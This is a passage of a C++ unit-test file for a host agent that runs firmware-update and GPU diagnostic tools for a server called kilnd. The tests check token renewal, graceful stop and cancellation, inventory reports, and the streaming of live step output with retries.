  EXPECT_NE(staged["stdout_tail"].get<std::string>().find("staged nvfw.fwpkg sha256 " + sha256Hex(bits)), std::string::npos)
      << staged.dump();
  EXPECT_TRUE(fs::exists(dir_ / "artifacts" / sha256Hex(bits) / "nvfw.fwpkg"));
  json failed = transport_.reportBody(1);
  EXPECT_EQ(failed["started"], false);
  EXPECT_NE(failed["spawn_error"].get<std::string>().find("not fetched"), std::string::npos) << failed.dump();
  EXPECT_EQ(runner_.runCount(), 0u);
}

// Issue 31: a token that expires is renewed over the channel it authenticates, two thirds into
// its life; the new one is stored (and its renewal time) and used from the next poll; a renewal
// kilnd does not answer is tried again a minute later.
TEST_F(AgentTest, RenewsAnExpiringTokenTwoThirdsIntoItsLifeAndUsesTheNewOne) {
  transport_.pushRegister(HttpReply{200, json{{"host", "h1"}, {"token", "kiln_a_old"}, {"token_id", "a"}, {"expires_in_s", 3000}}.dump()});
  start();
  ASSERT_TRUE(transport_.waitForPolls(1));
  EXPECT_TRUE(transport_.renewals().empty()) << "not due yet";
  std::ifstream due_file(settings_.state_dir / kRenewFileName);
  std::int64_t due = 0;
  ASSERT_TRUE(due_file >> due);
  EXPECT_EQ(due, 1'750'000'000'000 + 2'000'000);

  clock_.advance(std::chrono::seconds(2001));
  transport_.pushRenewal(HttpReply{503, R"({"error": {"code": "unavailable", "message": "database down"}})"});
  transport_.pushPoll(HttpReply{204, ""});
  ASSERT_TRUE(transport_.waitForRenewals(1));
  EXPECT_EQ(transport_.renewals()[0].token, "kiln_a_old");
  EXPECT_EQ(transport_.renewals()[0].path, "/api/v1/agents/h1/token");
  ASSERT_TRUE(transport_.waitForPolls(2));
  EXPECT_EQ(transport_.polls().back().token, "kiln_a_old") << "a failed renewal keeps the old token";

  clock_.advance(std::chrono::seconds(61));
  transport_.pushPoll(HttpReply{204, ""});
  ASSERT_TRUE(transport_.waitForRenewals(2));
  transport_.pushPoll(HttpReply{204, ""});
  ASSERT_TRUE(transport_.waitForPolls(4));
  const std::string renewed = transport_.polls().back().token;
  EXPECT_NE(renewed, "kiln_a_old");
  EXPECT_EQ(*readAgentToken(settings_.state_dir), renewed);
  std::ifstream next_file(settings_.state_dir / kRenewFileName);
  std::int64_t next = 0;
  ASSERT_TRUE(next_file >> next);
  EXPECT_GT(next, due + 2'000'000) << "the new token's renewal is two thirds into its own life";
}

TEST_F(AgentTest, InventoryIsSentAfterAStepThatAsksForIt) {
  runner_.script("nvfwupd", FakeProcessRunner::exited(0));
  transport_.pushAssignment(assignment("a-1", {"nvfwupd"}, {{"inventory_after", true}}));
  start();
  ASSERT_TRUE(transport_.waitForReports(1));
  EXPECT_EQ(transport_.reportBody(0)["inventory"],
            (json{{"gpu_vbios", "97.00.82.00.0E"}, {"nic", "28.43.1014"}}));
  EXPECT_EQ(probe_.inventoryCalls(), 2);  // enrolment + after the step
}

TEST_F(AgentTest, StopLetsARunningStepFinishWithinTheGrace) {
  clock_.setHold(true);  // the grace never runs out on its own
  std::atomic<bool> stop_seen{false};
  std::promise<void> started;
  runner_.scriptHandler("tool", [&](const exec::ProcessSpec&, const exec::CancelToken* cancel) {
    started.set_value();
    for (int i = 0; i < 10000 && !stop_seen; ++i) std::this_thread::sleep_for(1ms);
    ProcessResult r = FakeProcessRunner::exited(0, "finished");
    r.cancelled = cancel->cancelled();
    return r;
  });
  transport_.pushAssignment(assignment("a-1", {"tool"}));
  start();
  ASSERT_EQ(started.get_future().wait_for(10s), std::future_status::ready);
  agent_->requestStop();
  stop_seen = true;
  thread_.join();
  agent_.reset();
  EXPECT_TRUE(status_.ok());
  EXPECT_TRUE(transport_.reports().empty());  // reported at the next start
  auto journal = Journal::open(settings_.state_dir);
  ASSERT_TRUE(journal.ok());
  const JournalEntry* e = (*journal)->find("a-1", 1);
  ASSERT_NE(e, nullptr);
  ASSERT_TRUE(e->finished());
  EXPECT_EQ(e->result["exit_code"], 0);
  EXPECT_EQ(e->result["cancelled"], false);
  EXPECT_FALSE(e->reported);
}

TEST_F(AgentTest, StopCancelsAStepStillRunningAfterTheGrace) {
  std::promise<void> started;
  runner_.scriptHandler("tool", [&](const exec::ProcessSpec&, const exec::CancelToken* cancel) {
    started.set_value();
    waitCancelled(cancel);
    ProcessResult r;
    r.started = true;
    r.cancelled = true;
    r.term_signal = 15;
    return r;
  });
  transport_.pushAssignment(assignment("a-1", {"tool"}));
  start();
  ASSERT_EQ(started.get_future().wait_for(10s), std::future_status::ready);
  stop();
  EXPECT_TRUE(status_.ok());
  EXPECT_EQ(clock_.waits(), (std::vector<std::chrono::milliseconds>{settings_.stop_grace}));
  auto journal = Journal::open(settings_.state_dir);
  ASSERT_TRUE(journal.ok());
  const JournalEntry* e = (*journal)->find("a-1", 1);
  ASSERT_NE(e, nullptr);
  ASSERT_TRUE(e->finished());
  EXPECT_EQ(e->result["cancelled"], true);
  EXPECT_EQ(e->result["agent_note"], kStopNote);
}

// ---- live output (issue 18) --------------------------------------------------------------

// A step that prints `first`, waits until `posts` calls reached kilnd, prints `then`, and exits.
ProcessResult printTwice(const exec::ProcessSpec& spec, FakeTransport& t, const std::string& first,
                         std::size_t posts, const std::string& then, const std::string& err = "") {
  spec.on_output(false, first.data(), first.size());
  EXPECT_TRUE(t.waitForReports(posts));
  spec.on_output(false, then.data(), then.size());
  if (!err.empty()) spec.on_output(true, err.data(), err.size());
  return FakeProcessRunner::exited(0, first + then);
}

// Waits (bounded) until the result of `id` reached kilnd.
bool waitForResult(FakeTransport& t, const std::string& id) {
  for (int i = 0; i < 10000; ++i) {
    for (const auto& c : t.reports())
      if (c.path == "/api/v1/assignments/" + id + "/result") return true;
    std::this_thread::sleep_for(1ms);
  }
  return false;
}

// The output calls among `calls`, each stream's chunks put together by offset: what kilnd
// would have. Fails the test when a chunk leaves a gap.
std::map<std::string, std::string> sentOutput(const std::vector<HttpCall>& calls) {
  std::map<std::string, std::string> out;
  for (const auto& c : calls) {
    if (c.path.find("/output") == std::string::npos) continue;
    json b = json::parse(c.body);
    for (const char* name : {"stdout", "stderr"}) {
      if (!b.contains(name)) continue;
      const auto offset = b[name]["offset"].get<std::size_t>();
      const auto data = b[name]["data"].get<std::string>();
      std::string& have = out[name];
      EXPECT_LE(offset, have.size()) << "a gap in " << name;
      if (offset + data.size() > have.size()) have = have.substr(0, offset) + data;
    }
  }
  return out;
}

// Waits (bounded) until the output calls put together give `text` for `stream`.
bool waitForSent(FakeTransport& t, const std::string& stream, const std::string& text) {
  for (int i = 0; i < 10000; ++i) {
    if (sentOutput(t.reports())[stream] == text) return true;
    std::this_thread::sleep_for(1ms);
  }
  return false;
}

TEST_F(AgentTest, SendsARunningStepsNewOutputWithItsLeaseWhileTheStepRuns) {
  runner_.scriptHandler("nvfwupd", [&](const exec::ProcessSpec& spec, const exec::CancelToken*) {
    ProcessResult r = printTwice(spec, transport_, "PercentComplete: 10\n", 1, "PercentComplete: 20\n", "warn\n");
    // More output went while the step ran.
    EXPECT_TRUE(waitForSent(transport_, "stdout", "PercentComplete: 10\nPercentComplete: 20\n"));
    EXPECT_TRUE(waitForSent(transport_, "stderr", "warn\n"));
    return r;
  });
  transport_.pushAssignment(assignment("a-1", {"nvfwupd", "update_fw"}, {{"lease", 7}}));
  start();
  ASSERT_TRUE(waitForResult(transport_, "a-1"));
  stop();
  auto calls = transport_.reports();
  ASSERT_GE(calls.size(), 3u);
  EXPECT_EQ(calls[0].path, "/api/v1/assignments/a-1/output");
  EXPECT_EQ(calls[0].token, "kiln_1_s");
  json first = json::parse(calls[0].body);
  EXPECT_EQ(first["lease"], 7);
  EXPECT_EQ(first["host"], "h1");
  EXPECT_EQ(first["stdout"], (json{{"offset", 0}, {"data", "PercentComplete: 10\n"}}));
  EXPECT_FALSE(first.contains("stderr"));  // nothing there yet
  // Acknowledged bytes are not sent again: the next stdout chunk starts where the first ended.
  json second = json::parse(calls[1].body);
  EXPECT_EQ(second["stdout"], (json{{"offset", 20}, {"data", "PercentComplete: 20\n"}}));
  auto sent = sentOutput(calls);
  EXPECT_EQ(sent["stdout"], "PercentComplete: 10\nPercentComplete: 20\n");
  EXPECT_EQ(sent["stderr"], "warn\n");
  EXPECT_EQ(calls.back().path, "/api/v1/assignments/a-1/result");
  EXPECT_EQ(json::parse(calls.back().body)["stdout_tail"], "PercentComplete: 10\nPercentComplete: 20\n");
}

TEST_F(AgentTest, LiveOutputKilndDidNotAcknowledgeIsSentAgain) {
  transport_.pushReport(HttpReply{503, R"({"error": {"code": "unavailable", "message": "busy"}})"});
  runner_.scriptHandler("dcgmi", [&](const exec::ProcessSpec& spec, const exec::CancelToken*) {
    ProcessResult r = printTwice(spec, transport_, "a\n", 1, "b\n");
    EXPECT_TRUE(waitForSent(transport_, "stdout", "a\nb\n"));
    return r;
  });
  transport_.pushAssignment(assignment("a-1", {"dcgmi", "diag"}));
  start();
  ASSERT_TRUE(waitForResult(transport_, "a-1"));
  stop();
  auto calls = transport_.reports();
  EXPECT_EQ(transport_.reportBody(0)["stdout"], (json{{"offset", 0}, {"data", "a\n"}}));
  EXPECT_EQ(transport_.reportBody(1)["stdout"]["offset"], 0);  // refused with a 503: sent again
  EXPECT_EQ(sentOutput(calls)["stdout"], "a\nb\n");
  EXPECT_EQ(calls.back().path, "/api/v1/assignments/a-1/result");
}

TEST_F(AgentTest, AStaleLeaseEndsTheLiveOutputButNotTheStepOrItsReport) {
  transport_.pushReport(HttpReply{409, R"({"error": {"code": "conflict", "message": "stale"}})"});
  runner_.scriptHandler("dcgmi", [&](const exec::ProcessSpec& spec, const exec::CancelToken*) {
    return printTwice(spec, transport_, "a\n", 1, "b\n");
  });
  transport_.pushAssignment(assignment("a-1", {"dcgmi", "diag"}));
  start();
  ASSERT_TRUE(waitForResult(transport_, "a-1"));
  stop();
  auto calls = transport_.reports();
  ASSERT_EQ(calls.size(), 2u);  // no more output after the 409: only the result
  EXPECT_EQ(calls[1].path, "/api/v1/assignments/a-1/result");
  EXPECT_EQ(json::parse(calls[1].body)["exit_code"], 0);
}

}  // namespace
}  // namespace kiln::agent
